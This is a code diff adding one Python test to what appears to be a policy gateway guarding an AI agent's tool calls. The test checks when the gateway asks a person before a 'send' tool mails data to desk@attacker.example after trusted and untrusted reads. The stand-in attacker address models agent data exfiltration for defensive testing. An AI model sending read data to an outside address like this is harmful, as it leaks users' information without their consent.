@@ -116,6 +116,19 @@ async def test_a_server_cannot_vouch_for_what_it_returns(
         assert len(person.heard) == 1
 
 
+async def test_what_a_trusted_result_had_said_before_is_trusted(offer: Offer, open_gateway: OpenGateway) -> None:
+    """Not what one says afterwards: a tool that repeats its arguments would make anything trusted."""
+    book = {**READ, "name": "handbook"}
+    server = offer(SEND, READ, book, result=result(MAIL))
+    async with open_gateway({"m": server}, policy={"flow": "ask", "trusted": ["m.handbook"]}) as gateway:
+        for session, order, asked in (("before", ("handbook", "read"), 0), ("after", ("read", "handbook"), 1)):
+            person = Person(yes, session=session)
+            for name in order:
+                await call(gateway, person, f"m.{name}")
+            await call(gateway, person, "m.send", to="desk@attacker.example")
+            assert len(person.heard) == asked, session
+
+
 PAGE: JsonObject = {
     "name": "fetch",
     "description": "Fetch a page.",
